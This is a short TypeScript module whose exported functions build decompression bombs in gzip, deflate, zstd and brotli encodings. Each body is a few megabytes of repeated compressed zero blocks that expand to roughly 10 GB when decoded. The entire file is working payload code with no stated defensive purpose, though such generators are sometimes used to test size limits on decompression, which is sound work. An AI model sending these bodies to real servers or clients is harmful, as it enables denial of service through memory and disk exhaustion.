import { createBrotliCompress, constants, deflateRawSync, gzipSync } from 'node:zlib';

/** 10 GB of zeros behind a few bytes. */
export interface Bomb {
  readonly encoding: string;
  readonly body: Buffer;
}

const MIB = 1024 * 1024;
const TEN_GB = 10_000;

/** Members of 1 MiB of zeros, one after the other: legal, and 10 GB behind 10 MB. */
export function gzipBomb(): Bomb {
  const member = gzipSync(Buffer.alloc(MIB));
  return { encoding: 'gzip', body: Buffer.concat(Array.from({ length: TEN_GB }, () => member)) };
}

/** One deflate stream: a flushed piece ends on a byte, and refers to nothing before it but zeros. */
export function deflateBomb(): Bomb {
  const piece = deflateRawSync(Buffer.alloc(MIB), { finishFlush: constants.Z_FULL_FLUSH });
  return { encoding: 'deflate', body: Buffer.concat([Buffer.from([0x78, 0x9c]), ...Array.from({ length: TEN_GB }, () => piece)]) };
}

/** RFC 8878: a frame of RLE blocks; each turns 4 bytes into 128 KiB. */
export function zstdBomb(): Bomb {
  const header = Buffer.from([0x28, 0xb5, 0x2f, 0xfd, 0x00, (23 - 10) << 3]);
  const blockHeader = (128 * 1024 * 8) | (1 << 1);
  const block = Buffer.from([blockHeader & 0xff, (blockHeader >> 8) & 0xff, blockHeader >> 16, 0]);
  return { encoding: 'zstd', body: Buffer.concat([header, ...Array.from({ length: TEN_GB * 8 }, () => block)]) };
}

/** Blocks of 16 MiB of zeros in 14 bytes; from the second on they are all alike. */
export async function brotliBomb(): Promise<Bomb> {
  const encoder = createBrotliCompress({ params: { [constants.BROTLI_PARAM_QUALITY]: 5, [constants.BROTLI_PARAM_LGWIN]: 24 } });
  const pieces: Buffer[] = [];
  encoder.on('data', (piece: Buffer) => pieces.push(piece));
  for (let n = 0; n < 2; n++) {
    await new Promise((resolve) => encoder.write(Buffer.alloc(16 * MIB), resolve));
    await new Promise<void>((resolve) => encoder.flush(resolve));
  }
  encoder.destroy();
  const stream = Buffer.concat(pieces);
  const piece = stream.subarray(stream.length / 2);
  return { encoding: 'br', body: Buffer.concat([stream, ...Array.from({ length: TEN_GB / 16 }, () => piece)]) };
}
